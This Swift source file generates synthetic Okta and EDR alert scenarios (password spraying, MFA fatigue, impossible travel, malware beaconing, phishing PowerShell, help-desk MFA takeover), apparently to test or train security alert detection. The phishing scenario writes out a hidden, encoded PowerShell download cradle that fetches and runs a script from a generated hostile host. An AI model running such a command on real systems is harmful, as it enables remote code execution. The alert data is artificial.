import VigilCore

/// Malicious identity and endpoint activity: spraying, push floods, session theft, malware.
enum MaliciousIdentityScenarios {
    static let all: [Scenario] = [
        passwordSpray, mfaFatigue, impossibleTravel, endpointMalwareC2, phishingPowerShell, attackerFactorEnrollment,
    ]

    static let passwordSpray = Scenario(
        id: "password_spray_success", label: .malicious, weight: 7, hard: false,
        summary: "Password spraying across many accounts, then one success"
    ) { ctx in
        let (ip, network) = ctx.hostileConnection([.hosting, .vpn, .tor])
        let time = ctx.utcTime(hours: 0...23)
        let active = ctx.enterprise.people.filter { $0.status == .active }
        let victims = ctx.rng.sample(active, count: ctx.rng.int(in: 12...20))
        let ua = ctx.rng.pick([UserAgents.pythonRequests, UserAgents.chromeWindows])
        var events: [JSONValue] = []
        for (i, victim) in victims.enumerated() {
            events.append(
                ctx.oktaLogin(
                    victim, at: time.adding(seconds: Int64(i * 7)), ip: ip, network: network, userAgent: ua,
                    session: ctx.oktaSession(), outcome: "FAILURE", reason: "INVALID_CREDENTIALS"))
        }
        let winner = ctx.person()
        let session = ctx.oktaSession()
        let after = time.adding(seconds: Int64(victims.count * 7 + 12))
        events.append(
            ctx.oktaLogin(
                winner, at: after, ip: ip, network: network, userAgent: ua, session: session,
                behaviors: ScenarioContext.behaviors(newGeo: true, newDevice: true, newIP: true, newCity: true)))
        events.append(
            ctx.oktaMFA(
                winner, at: after.adding(seconds: 31), ip: ip, network: network, userAgent: ua, session: session))
        return AlertDraft(
            rule: .bruteForce, title: "Failed sign-ins for \(victims.count) accounts from \(ip)", events: events,
            context: ["accounts": .int(Int64(victims.count)), "ip": .string(ip)], attack: ["T1110.003", "T1078.004"],
            rationale:
                "One \(network.isp) address tried one password each against many accounts, then signed in as \(winner.login) from a device never seen for them."
        )
    }

    static let mfaFatigue = Scenario(
        id: "mfa_fatigue", label: .malicious, weight: 6, hard: false, summary: "A push flood until the victim accepts"
    ) { ctx in
        let person = ctx.person()
        let (ip, network) = ctx.hostileForeign()
        let time = ctx.localTime(person, hour: ctx.rng.pick([22, 23, 0, 1, 5, 6]))
        let ua = UserAgents.chromeWindows
        let session = ctx.oktaSession()
        var events = [
            ctx.oktaLogin(
                person, at: time, ip: ip, network: network, userAgent: ua, session: session,
                behaviors: ScenarioContext.behaviors(newGeo: true, newDevice: true, newIP: true, newCity: true))
        ]
        let pushes = ctx.rng.int(in: 6...14)
        for i in 0..<pushes {
            events.append(
                ctx.oktaPushDenied(
                    person, at: time.adding(seconds: Int64(15 + i * 35)), ip: ip, network: network, userAgent: ua,
                    session: session))
        }
        events.append(
            ctx.oktaMFA(
                person, at: time.adding(seconds: Int64(15 + pushes * 35 + 20)), ip: ip, network: network, userAgent: ua,
                session: session))
        return AlertDraft(
            rule: .pushDenials, title: "Okta Verify pushes denied for \(person.login)", events: events,
            context: ["denials": .int(Int64(pushes))], attack: ["T1621", "T1078.004"],
            rationale:
                "\(pushes) pushes at night from \(network.country) (\(network.isp)) on an unknown device until one was accepted."
        )
    }

    static let impossibleTravel = Scenario(
        id: "impossible_travel", label: .malicious, weight: 5, hard: false,
        summary: "A session from home, then one from another continent 40 minutes later"
    ) { ctx in
        let person = ctx.person()
        let time = ctx.workingHours(person)
        let (homeIP, homeNetwork) = ctx.usualConnection(person)
        let ua = UserAgents.browser(for: ctx.primaryDevice(of: person).platform)
        let (ip, network) = ctx.hostileForeign()
        let s1 = ctx.oktaSession()
        let s2 = ctx.oktaSession()
        let later = time.adding(seconds: Int64(ctx.rng.int(in: 1500...3000)))
        let events = [
            ctx.oktaLogin(person, at: time, ip: homeIP, network: homeNetwork, userAgent: ua, session: s1),
            ctx.oktaMFA(
                person, at: time.adding(seconds: 10), ip: homeIP, network: homeNetwork, userAgent: ua, session: s1),
            ctx.oktaLogin(
                person, at: later, ip: ip, network: network, userAgent: UserAgents.chromeLinux, session: s2,
                behaviors: ScenarioContext.behaviors(newGeo: true, newDevice: true, newIP: true, newCity: true)),
            ctx.oktaMFA(
                person, at: later.adding(seconds: 25), ip: ip, network: network, userAgent: UserAgents.chromeLinux,
                session: s2),
        ]
        return AlertDraft(
            rule: .newCountry, title: "\(person.login) signed in from \(network.country)", events: events,
            context: ["country": .string(network.country), "asn": .int(Int64(network.asn))], attack: ["T1078.004"],
            rationale:
                "Signed in from \(homeNetwork.city) and, \((later.millisecondsSinceEpoch - time.millisecondsSinceEpoch) / 60_000) minutes later, from \(network.city), \(network.country) on a new Linux device; no travel notice exists."
        )
    }

    static let endpointMalwareC2 = Scenario(
        id: "endpoint_malware_c2", label: .malicious, weight: 6, hard: false,
        summary: "A disguised executable from Downloads beacons to a VPS"
    ) { ctx in
        let person = ctx.person()
        let device = ctx.primaryDevice(of: person)
        let time = ctx.workingHours(person)
        let (remote, _) = ctx.hostileConnection([.hosting])
        let domain =
            ctx.rng.pick(["cdn-update", "telemetry-sync", "msoffice-check", "docs-preview"]) + "-" + ctx.rng.hex(6)
            + "." + ctx.rng.pick(["top", "xyz", "online", "site"])
        let user = String(person.login.split(separator: "@")[0])
        let pid = ctx.rng.digits(11)
        let (image, command, parent) =
            device.platform == .windows
            ? (
                "\\Device\\HarddiskVolume3\\Users\\\(user)\\Downloads\\Invoice_Q4_2026.pdf.exe",
                "\"C:\\Users\\\(user)\\Downloads\\Invoice_Q4_2026.pdf.exe\"", "explorer.exe"
            )
            : (
                "/Users/\(user)/Downloads/ZoomInstallerFull.app/Contents/MacOS/zoomupd",
                "/Users/\(user)/Downloads/ZoomInstallerFull.app/Contents/MacOS/zoomupd --silent", "launchd"
            )
        let publicIP = ctx.usualConnection(person).ip
        let start = EDRRecord(time: time, device: device, customerID: ctx.enterprise.edrCustomerID, publicIP: publicIP)
        var events = [
            start.process(
                image: image, commandLine: command, parent: parent, user: user, sha256: ctx.rng.hex(64), processID: pid,
                parentProcessID: ctx.rng.digits(11), &ctx.rng),
            EDRRecord(
                time: time.adding(seconds: 2), device: device, customerID: ctx.enterprise.edrCustomerID,
                publicIP: publicIP
            ).dns(domain: domain, contextProcessID: pid, &ctx.rng),
        ]
        let interval = ctx.rng.pick([30, 60, 60, 120])
        for i in 0..<6 {
            let edr = EDRRecord(
                time: time.adding(seconds: Int64(3 + i * interval + ctx.rng.int(in: 0...3))), device: device,
                customerID: ctx.enterprise.edrCustomerID, publicIP: publicIP)
            events.append(edr.connect(remoteIP: remote, remotePort: 443, contextProcessID: pid, &ctx.rng))
        }
        return AlertDraft(
            rule: .beaconing, title: "Periodic connections from \(device.hostname) to \(remote):443 every \(interval)s",
            events: events,
            context: [
                "interval_seconds": .int(Int64(interval)), "remote_ip": .string(remote), "domain": .string(domain),
            ], attack: ["T1204.002", "T1071.001"],
            rationale:
                "An unsigned binary the user ran from Downloads, disguised as a document or installer, resolves a freshly registered domain and calls a VPS every \(interval)s."
        )
    }

    static let phishingPowerShell = Scenario(
        id: "phishing_encoded_powershell", label: .malicious, weight: 4, hard: false,
        summary: "An Outlook attachment launches a hidden encoded PowerShell download cradle"
    ) { ctx in
        let enterprise = ctx.enterprise
        let person = ctx.person { p in p.devices.contains { enterprise.device(id: $0)?.platform == .windows } }
        let device = person.devices.compactMap { enterprise.device(id: $0) }.first { $0.platform == .windows }!
        let time = ctx.workingHours(person)
        let (remote, _) = ctx.hostileConnection([.hosting])
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://\(remote)/a.ps1')"
        let user = String(person.login.split(separator: "@")[0])
        let pid = ctx.rng.digits(11)
        let publicIP = ctx.usualConnection(person).ip
        let edr = EDRRecord(time: time, device: device, customerID: enterprise.edrCustomerID, publicIP: publicIP)
        let events = [
            edr.process(
                image: "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                commandLine: "powershell.exe -nop -w hidden -enc \(EncodedCommand.encode(script))",
                parent: "OUTLOOK.EXE", user: user,
                sha256: "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c", processID: pid,
                parentProcessID: ctx.rng.digits(11), &ctx.rng),
            EDRRecord(
                time: time.adding(seconds: 1), device: device, customerID: enterprise.edrCustomerID, publicIP: publicIP
            ).connect(remoteIP: remote, remotePort: 80, contextProcessID: pid, &ctx.rng),
        ]
        return AlertDraft(
            rule: .encodedPowerShell, title: "Encoded PowerShell on \(device.hostname)", events: events,
            context: ["host": .string(device.hostname), "parent": "OUTLOOK.EXE"],
            attack: ["T1566.001", "T1059.001", "T1027.010", "T1105"],
            rationale:
                "Outlook spawned a hidden PowerShell whose decoded command downloads and runs a script from a VPS: a phishing attachment."
        )
    }

    static let attackerFactorEnrollment = Scenario(
        id: "attacker_factor_enrollment", label: .malicious, weight: 3, hard: true,
        summary: "After a social-engineered help-desk reset, the attacker enrolls their own phone"
    ) { ctx in
        let person = ctx.person()
        let it = ctx.person(inGroup: "it-admins")
        let time = ctx.workingHours(person)
        let request = ctx.ticket(
            "IT", type: "Service Request", summary: "Lost phone - reset MFA for \(person.displayName)",
            description:
                "Caller said they lost their phone while travelling and asked for an MFA reset. Caller verified by manager's name.",
            reporter: it.login, assignee: it.login, labels: ["mfa", "helpdesk", "phone-call"], entities: [person.login],
            created: time.adding(seconds: -2400), status: "Done")
        let office = ctx.office(of: it)
        let (ip, network) = ctx.hostileConnection([.vpn, .hosting])
        let events = [
            ctx.oktaFactorReset(of: person, by: it, at: time.adding(seconds: -900), from: office.network),
            ctx.oktaFactorActivated(
                person, factor: .oktaVerifyPush, at: time, ip: ip, network: network,
                userAgent: UserAgents.oktaVerifyAndroid, session: ctx.oktaSession()),
        ]
        return AlertDraft(
            rule: .factorChange, title: "MFA factors reset and re-enrolled for \(person.login)", events: events,
            context: ["factor": "OKTA_VERIFY_PUSH"], attack: ["T1556.006", "T1098.005"],
            rationale:
                "The reset (\(request.key)) was requested by phone, and the new factor was enrolled from \(network.isp) (AS\(network.asn)) — a network the person never uses — on an Android build of Okta Verify, while the person was working from \(person.office) with no travel notice."
        )
    }
}
